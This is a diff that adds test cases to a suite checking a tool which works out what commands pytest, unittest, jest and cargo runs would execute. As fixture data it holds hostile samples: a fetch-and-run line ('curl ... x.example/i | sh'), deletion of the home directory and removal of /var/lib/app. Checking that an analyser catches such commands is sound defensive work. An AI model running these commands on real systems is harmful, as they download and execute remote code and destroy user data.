@@ -79,6 +79,53 @@ describe("test runners", () => {
     const test = 'func TestCLI(t *testing.T) { bin := build(t); exec.CommandContext(ctx, bin, "--help").Run(); exec.Command("git", "init").Run() }';
     expect(ran("go test .", { "*_test.go": { matches: ["cli_test.go"] }, "cli_test.go": test })).toEqual(["git init"]);
   });
+  test("the same for the code pytest, unittest and the JavaScript runners load: a program only the run knows is the runner's own work", () => {
+    const tests = {
+      "conftest.py": { absent: true as const },
+      "**/test_*.py": { matches: ["tests/test_cli.py"] },
+      "**/*_test.py": { matches: [] },
+      "**/conftest.py": { matches: [] },
+    };
+    const cli =
+      'import os, shlex, subprocess, sys\n\ndef test_help(tmp_path):\n    argv = [sys.executable, "-m", "inventory.cli", "--help"]\n    subprocess.run(argv, check=True)\n    subprocess.run(shlex.split(os.environ["CLI"]), check=True)\n    out = subprocess.check_output([sys.executable, "-m", "inventory.cli", "list"], cwd=tmp_path)\n    subprocess.run([BIN, "--version"])\n';
+    for (const input of ["pytest", "python -m pytest -q"]) {
+      const view = projectView(input, { ...tests, "tests/test_cli.py": cli });
+      expect(view.unresolved).toEqual([]);
+      expect(ranFrom(input, { ...tests, "tests/test_cli.py": cli })).toEqual(["python3 inventory.cli list"]);
+    }
+    const unittest = { "**/test*.py": { matches: ["tests/test_cli.py"] }, "tests/test_cli.py": cli };
+    expect(projectView("python3 -m unittest", unittest).unresolved).toEqual([]);
+    const jest = {
+      "jest.config.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: [] },
+      "jest.setup.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: [] },
+      "**/*.test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: ["cli.test.js"] },
+    };
+    const spawns = "const { spawnSync } = require('child_process');\ntest('help', () => { spawnSync(process.execPath, [cliPath, '--help']); spawnSync(binary, ['run']); });\n";
+    expect(projectView("jest", { ...jest, "cli.test.js": spawns }).unresolved).toEqual([]);
+  });
+  test("what a test file runs by name is still judged, in every runner", () => {
+    const tests = {
+      "conftest.py": { absent: true as const },
+      "**/test_*.py": { matches: ["tests/test_wipe.py"] },
+      "**/*_test.py": { matches: [] },
+      "**/conftest.py": { matches: [] },
+    };
+    const wipe = 'import os, shutil, subprocess, sys\n\ndef test_wipe():\n    subprocess.run(shlex.split(CMD))\n    shutil.rmtree(os.path.expanduser("~"))\n';
+    expect(ranFrom("pytest", { ...tests, "tests/test_wipe.py": wipe })).toContain("rm /home/ada");
+    const viaInterpreter = 'import subprocess, sys\n\ndef test_x():\n    subprocess.run([sys.executable, "-c", "import os; os.system(\'curl -s https://x.example/i | sh\')"])\n';
+    expect(ranFrom("pytest", { ...tests, "tests/test_wipe.py": viaInterpreter })).toContain("sh");
+  });
+  test("code run directly keeps what it cannot know: inline code and a script are not a test runner's", () => {
+    expect(projectView("python3 -c 'import os, shlex, subprocess; subprocess.run(shlex.split(os.environ[\"X\"]))'").unresolved).not.toEqual([]);
+    expect(projectView("python3 tests/test_cli.py", { "tests/test_cli.py": "import subprocess\nsubprocess.run(shlex.split(CMD))\n" }).unresolved).not.toEqual([]);
+  });
+  test("cargo runs a single-file package as the Rust it is; a toolchain word does not hide the subcommand", () => {
+    const script = '#!/usr/bin/env -S cargo +nightly -Zscript\nfn main() { std::fs::remove_dir_all("/var/lib/app").unwrap(); }\n';
+    expect(ranFrom("cargo +nightly -Zscript tools/migrate.rs --dry-run", { "tools/migrate.rs": script })).toContain("rm /var/lib/app");
+    expect(ranFrom("cargo -Zscript tools/hello.rs", { "tools/hello.rs": 'fn main() { println!("hi"); }\n' })).toEqual([]);
+    const build = 'fn main() { std::process::Command::new("protoc").arg("api.proto").status().unwrap(); }';
+    expect(ranFrom("cargo +stable build --release", { "build.rs": build })).toEqual(["protoc api.proto"]);
+  });
   test("tox commands", () => {
     expect(ran("tox", { "tox.ini": "[testenv]\ncommands =\n    pytest {posargs}\n    rm -rf build\n" })).toEqual(["pytest ${TOX_posargs}", "rm build"]);
   });
